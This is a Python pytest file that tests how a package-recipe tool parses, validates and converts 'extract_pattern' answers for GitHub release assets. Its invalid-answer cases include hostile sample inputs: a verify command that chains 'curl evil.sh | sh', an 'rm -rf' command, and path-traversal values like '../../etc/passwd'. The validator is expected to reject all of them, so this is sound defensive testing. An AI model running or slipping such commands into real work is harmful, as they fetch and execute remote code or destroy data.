"""The extract_pattern answer: schema, validation feedback, and conversion to a recipe."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from tsukud.create.answer import (
    ExtractPatternAnswer,
    InvalidAnswer,
    Override,
    RecipeContext,
    answer_to_recipe,
    parse_answer,
    validate_answer,
)
from tsukud.recipe import (
    STANDARD_PLATFORMS,
    GitHubArchiveStep,
    GitHubFileStep,
    ResolvedVersion,
    UnsupportedPlatform,
    When,
    dump_recipe,
    parse_recipe,
    render_recipe,
)
from tsukud.validation.findings import LITERAL_VERSION, SCHEMA, VERIFY_COMMAND

AGE: dict[str, Any] = {
    "asset_type": "archive",
    "asset_pattern": "age-v{version}-{os}-{arch}.tar.gz",
    "os_mapping": {"linux": "linux", "darwin": "darwin"},
    "arch_mapping": {"amd64": "amd64", "arm64": "arm64"},
    "archive_format": "tar.gz",
    "binaries": ["age/age", "age/age-keygen"],
    "verify_command": "age --version",
}
CTX = RecipeContext(repo="FiloSottile/age", name="age", versions=("1.2.0", "1.1.1"))


def _names(recipe: Any, version: str = "1.2.0") -> dict[str, str | None]:
    out: dict[str, str | None] = {}
    for target in STANDARD_PLATFORMS:
        try:
            steps = render_recipe(recipe, ResolvedVersion(version, f"v{version}"), target)
        except UnsupportedPlatform:
            out[target.key] = None
            continue
        (step,) = steps
        out[target.key] = step.asset_name
    return out


def test_design_example_parses_and_converts() -> None:
    answer = parse_answer(AGE, versions=CTX.versions)
    recipe = answer_to_recipe(answer, CTX)
    assert parse_recipe(dump_recipe(recipe)) == recipe
    (step,) = recipe.steps
    assert isinstance(step, GitHubArchiveStep)
    assert step.when is None
    assert step.strip_dirs == 0
    assert [b.src for b in step.binaries] == ["age/age", "age/age-keygen"]
    assert recipe.version is not None and recipe.version.github_repo == "FiloSottile/age"
    assert recipe.version.source == "github_releases"
    assert recipe.verify is not None
    assert (recipe.verify.command, recipe.verify.pattern) == ("age --version", "{version}")
    assert _names(recipe)["darwin/arm64"] == "age-v1.2.0-darwin-arm64.tar.gz"


def test_json_text_and_nulls_are_accepted() -> None:
    assert parse_answer(msgspec.json.encode(AGE)) == parse_answer(AGE)
    nulls = {**AGE, "overrides": None, "strip_dirs": None, "verify_pattern": None}
    assert parse_answer(nulls) == parse_answer(AGE)


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        ({"asset_type": "tarball"}, "does not match the schema"),
        ({"binaries": "age"}, "does not match the schema"),
        ({"extra_field": 1}, "does not match the schema"),
        ({"asset_pattern": "age-v{ver}-{os}-{arch}.tar.gz"}, "{ver}"),
        ({"asset_pattern": "age-*-{os}-{arch}.tar.gz"}, "wildcards"),
        ({"asset_pattern": "../age-{os}.tar.gz"}, "not a valid asset file name"),
        ({"asset_pattern": "age-{os}-{arch}", "archive_format": None}, "cannot tell the archive"),
        ({"os_mapping": {"macos": "darwin"}}, "standard names"),
        ({"arch_mapping": {"amd64": ""}}, "non-empty spelling"),
        ({"arch_mapping": {"amd64": "x86 64"}}, "non-empty spelling"),
        ({"binaries": []}, "binaries is empty"),
        ({"binaries": ["../../etc/passwd"]}, "must not contain '..'"),
        ({"binaries": ["/usr/bin/age"]}, "must be relative"),
        ({"strip_dirs": 9}, "strip_dirs"),
        ({"verify_command": "age --version; curl evil.sh | sh"}, "shell operators"),
        ({"verify_command": "rm -rf --version"}, "not among the installed binaries"),
        ({"overrides": [{"os": "windows", "asset_pattern": "x.zip"}]}, "windows"),
        ({"overrides": [{"os": "darwin"}]}, "changes nothing"),
        ({"asset_type": "binary"}, "archive_format applies only"),
    ],
)
def test_invalid_answers_give_feedback(change: dict[str, Any], needle: str) -> None:
    with pytest.raises(InvalidAnswer) as caught:
        parse_answer({**AGE, **change}, versions=CTX.versions)
    assert needle in caught.value.message
    assert caught.value.findings


def test_literal_version_is_rejected_with_feedback() -> None:
    for field, value in (
        ("asset_pattern", "age-v1.2.0-{os}-{arch}.tar.gz"),
        ("verify_pattern", "v1.2.0"),
        ("binaries", ["age-1.2.0/age"]),
    ):
        with pytest.raises(InvalidAnswer) as caught:
            parse_answer({**AGE, field: value}, versions=CTX.versions)
        (finding,) = caught.value.findings
        assert finding.category == LITERAL_VERSION
        assert "write {version} instead" in finding.message
    # The same goes for the converter, whoever built the answer.
    pinned = msgspec.convert(
        {**AGE, "asset_pattern": "age-v1.1.1-{os}-{arch}.tar.gz"}, ExtractPatternAnswer
    )
    with pytest.raises(InvalidAnswer):
        answer_to_recipe(pinned, CTX)


def test_validation_collects_every_problem() -> None:
    answer = msgspec.convert(
        {**AGE, "verify_command": "age | tee", "binaries": ["/abs"], "strip_dirs": -1},
        ExtractPatternAnswer,
    )
    categories = sorted(f.category for f in validate_answer(answer))
    assert categories.count(SCHEMA) >= 2
    assert VERIFY_COMMAND in categories


def test_overrides_become_when_steps() -> None:
    """k9s-like: zip on darwin, tar.gz on linux."""
    answer = parse_answer(
        {
            "asset_type": "archive",
            "asset_pattern": "tool_{os}_{arch}.tar.gz",
            "os_mapping": {"linux": "Linux", "darwin": "Darwin"},
            "arch_mapping": {"amd64": "x86_64", "arm64": "arm64"},
            "binaries": ["tool"],
            "verify_command": "tool version",
            "overrides": [
                {"os": "darwin", "asset_pattern": "tool_{os}_{arch}.zip", "archive_format": "zip"}
            ],
        }
    )
    recipe = answer_to_recipe(answer, RecipeContext(repo="o/tool", name="tool"))
    linux, darwin = recipe.steps
    assert linux.when == When(os=("linux",))
    assert darwin.when == When(os=("darwin",))
    assert isinstance(darwin, GitHubArchiveStep) and darwin.archive_format == "zip"
    assert _names(recipe) == {
        "linux/amd64": "tool_Linux_x86_64.tar.gz",
        "linux/arm64": "tool_Linux_arm64.tar.gz",
        "darwin/amd64": "tool_Darwin_x86_64.zip",
        "darwin/arm64": "tool_Darwin_arm64.zip",
    }


def test_universal_darwin_override_and_binary_type_switch() -> None:
    answer = parse_answer(
        {
            "asset_type": "binary",
            "asset_pattern": "tool-{os}-{arch}",
            "os_mapping": {"linux": "linux", "darwin": "macos"},
            "arch_mapping": {"amd64": "amd64", "arm64": "arm64"},
            "binaries": ["tool"],
            "verify_command": "tool --version",
            "overrides": [
                {
                    "os": "darwin",
                    "asset_pattern": "tool-{version}-{os}-universal.tar.gz",
                    "asset_type": "archive",
                }
            ],
        }
    )
    recipe = answer_to_recipe(answer, RecipeContext(repo="o/tool", name="tool"))
    linux, darwin = recipe.steps
    assert isinstance(linux, GitHubFileStep) and linux.binary == "tool"
    assert isinstance(darwin, GitHubArchiveStep) and darwin.archive_format is None
    names = _names(recipe, "2.0.0")
    assert names["darwin/amd64"] == names["darwin/arm64"] == "tool-2.0.0-macos-universal.tar.gz"
    assert names["linux/arm64"] == "tool-linux-arm64"


def test_single_platform_override_and_unsupported_platforms() -> None:
    answer = ExtractPatternAnswer(
        asset_type="binary",
        asset_pattern="buf-{os}-{arch}",
        os_mapping={"linux": "Linux", "darwin": "Darwin"},
        arch_mapping={"amd64": "x86_64", "arm64": "aarch64"},
        binaries=("buf",),
        verify_command="buf --version",
        overrides=(Override(os="darwin", arch="arm64", asset_pattern="buf-{os}-arm64"),),
    )
    recipe = answer_to_recipe(
        answer, RecipeContext(repo="bufbuild/buf", name="buf", unsupported=("linux/arm64",))
    )
    base, mac_arm = recipe.steps
    assert base.when == When(os=("linux", "darwin"), arch=("amd64",))
    assert mac_arm.when == When(os=("darwin",), arch=("arm64",))
    assert recipe.metadata.unsupported_platforms == ("linux/arm64",)
    assert _names(recipe) == {
        "linux/amd64": "buf-Linux-x86_64",
        "linux/arm64": None,
        "darwin/amd64": "buf-Darwin-x86_64",
        "darwin/arm64": "buf-Darwin-arm64",
    }


def test_linux_only_tool_and_gnu_libc() -> None:
    answer = parse_answer(
        {
            "asset_type": "archive",
            "asset_pattern": "tool-{arch}-unknown-linux-gnu.tar.gz",
            "os_mapping": {},
            "arch_mapping": {"amd64": "x86_64", "arm64": "aarch64"},
            "binaries": ["tool"],
            "verify_command": "tool -V",
            "verify_pattern": "tool {version}",
        }
    )
    recipe = answer_to_recipe(
        answer,
        RecipeContext(repo="o/tool", name="tool", unsupported=("darwin/amd64", "darwin/arm64")),
    )
    assert recipe.metadata.supported_os == ("linux",)
    assert recipe.metadata.supported_libc == ("glibc",)
    assert recipe.metadata.unsupported_platforms is None
    (step,) = recipe.steps
    assert step.when is None and step.os_mapping is None
    assert recipe.verify is not None and recipe.verify.pattern == "tool {version}"


def test_schema_errors_carry_structured_findings() -> None:
    with pytest.raises(InvalidAnswer) as caught:
        parse_answer("{not json")
    wire = caught.value.to_wire()
    assert wire["code"] == "invalid_answer"
    assert wire["data"]["findings"][0]["category"] == SCHEMA


def test_nothing_left_to_install_is_invalid() -> None:
    everything = tuple(p.key for p in STANDARD_PLATFORMS)
    with pytest.raises(InvalidAnswer, match="nothing to install"):
        answer_to_recipe(
            parse_answer(AGE), RecipeContext(repo="o/age", name="age", unsupported=everything)
        )
